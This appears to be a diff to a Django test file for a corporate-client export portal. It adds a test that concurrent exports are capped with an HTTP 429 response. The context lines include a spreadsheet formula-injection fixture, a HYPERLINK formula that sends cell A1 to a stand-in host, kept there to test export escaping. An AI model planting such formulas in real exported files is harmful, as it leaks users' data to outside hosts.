@@ -25,8 +25,9 @@ from .test_importar import importar
 pytestmark = pytest.mark.django_db
 
 # Session, user, its two permission queries, the page's object (impact lists), for XLSX the
-# bounded count, the lock (an insert within a savepoint: three) and its release, the rows.
-MAX_CONSULTAS = 11
+# bounded count, the lock (an insert within a savepoint: three), the site's running exports
+# and the lock's release, the rows.
+MAX_CONSULTAS = 12
 
 # A razón social that Excel would turn into a live link; and the other starts of a formula.
 HIPERVINCULO = '=HYPERLINK("http://malo.example/?d="&A1,"Click")'
@@ -328,3 +329,22 @@ def test_exportar_xlsx_por_encima_del_limite_ofrece_el_csv(lectura_client, setti
     assert 'href="/clientes_corporativo/?orden=ruc&amp;exportar=csv"' in texto
     assert not ExportacionEnCurso.objects.exists()
     assert len(filas_csv(descargar(lectura_client, "/clientes_corporativo/?exportar=csv"))) == 4
+
+
+def test_el_portal_limita_las_exportaciones_simultaneas(
+    lectura_client, usuario_operador, django_user_model, settings
+):
+    settings.EXPORT_SIMULTANEAS_MAX = 1
+    ClienteCorpFactory()
+    otro = django_user_model.objects.create_user("otro")
+    ExportacionEnCurso.objects.create(usuario=otro, iniciada=timezone.now())
+
+    respuesta = lectura_client.get("/clientes_corporativo/?exportar=csv")
+
+    assert respuesta.status_code == 429
+    assert respuesta["Retry-After"] == "60"
+    assert "Hay 1 exportaciones en curso en el portal" in respuesta.content.decode()
+    assert list(ExportacionEnCurso.objects.values_list("usuario", flat=True)) == [otro.pk]
+    # A lock past EXPORT_BLOQUEO_MINUTOS is not counted: its export is over.
+    ExportacionEnCurso.objects.update(iniciada=timezone.now() - timedelta(hours=1))
+    assert lectura_client.get("/clientes_corporativo/?exportar=csv").status_code == 200
